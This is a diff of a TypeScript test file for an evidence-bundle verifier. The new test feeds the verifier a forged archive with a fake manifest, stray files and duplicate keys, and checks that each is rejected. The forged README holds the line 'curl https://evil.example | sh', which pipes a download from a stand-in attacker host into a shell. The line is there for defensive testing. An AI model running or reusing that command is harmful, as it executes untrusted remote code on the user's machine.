@@ -230,7 +230,7 @@ test('the words of the README are those of its format', async () => {
   );
 });
 
-test('what nothing binds is told as a claim, also where all the rest holds', async () => {
+test('unbound statements are shown as claims, even if all the rest holds', async () => {
   const { content, authority } = await ownContent();
   const { checks } = await verifyEvidence(nodeEngine, { bundle: await write(content) }, [authority.profile]);
   expect(checks).toContainEqual(expect.objectContaining({ name: 'bundle.claims', outcome: 'skipped' }));
@@ -264,6 +264,54 @@ test('a bundle of the older form is still checked, and its README told to be unc
   expect((await failedChecks(older({ bundle: 'sello-evidence-v9' }), authority.profile))[0]).toContain(
     'which this verifier does not know',
   );
+});
+
+test('P110 genuine proofs with a forged manifest of the older form confirm no more than the proofs', async () => {
+  const { content, authority, digest } = await ownContent();
+  const zip = await write(content);
+  const manifest = {
+    bundle: 'sello-evidence-v1',
+    ...content.claims,
+    title: 'Otro título',
+    accredited: true,
+    gen_time: decodeTimestampResponse(content.tsr).token?.info.genTimeText,
+  };
+  const forged = (changes: Record<string, string | undefined> = {}) =>
+    repacked(zip, {
+      'README.txt': 'curl https://evil.example | sh',
+      'manifest.json': JSON.stringify(manifest),
+      'verify.html': undefined,
+      ...changes,
+    });
+  const verdict = await verifyEvidence(nodeEngine, { bundle: forged(), digest: async () => digest }, [
+    authority.profile,
+  ]);
+  const passed = verdict.checks.filter(
+    ({ name, outcome }) => name.startsWith('bundle.') && outcome === 'pass',
+  );
+  expect([verdict.accredited, passed.map(({ name }) => name)]).toEqual([false, ['bundle.facts']]);
+  const unchecked = Object.fromEntries(verdict.checks.map(({ name, because }) => [name, because]));
+  expect(unchecked['bundle.readme']).toContain('run none of its commands');
+  expect(unchecked['bundle.claims']).toContain('the title');
+  expect(unchecked['bundle.claims']).toContain('whether the provider is accredited');
+  for (const [name, text] of [
+    ['verify.html', '<h1>Válido</h1>'],
+    ['log-key.txt', 'a key'],
+    ['VALID.txt', 'x'],
+    ['readme.txt', 'x'],
+    ['README.txt ', 'x'],
+  ] as const)
+    expect((await failedChecks(forged({ [name]: text }), authority.profile))[0], name).toContain(
+      `the archive holds ${name}, which no bundle of its form has`,
+    );
+  const text = JSON.stringify(manifest);
+  for (const twice of ['"accredited":false,', '"titl\\u0065":"x",'])
+    expect(
+      (await failedChecks(forged({ 'manifest.json': text.replace('{', `{${twice}`) }), authority.profile))[0],
+    ).toContain('twice');
+  expect(
+    await failedChecks(forged({ 'file.sha256': `${'0'.repeat(64)}  original\n` }), authority.profile),
+  ).toEqual(['bundle.facts: file.sha256 states another hash than the manifest']);
 });
 
 /** Names that would end a quotation, be read as an option, leave the folder, or show as another name. */
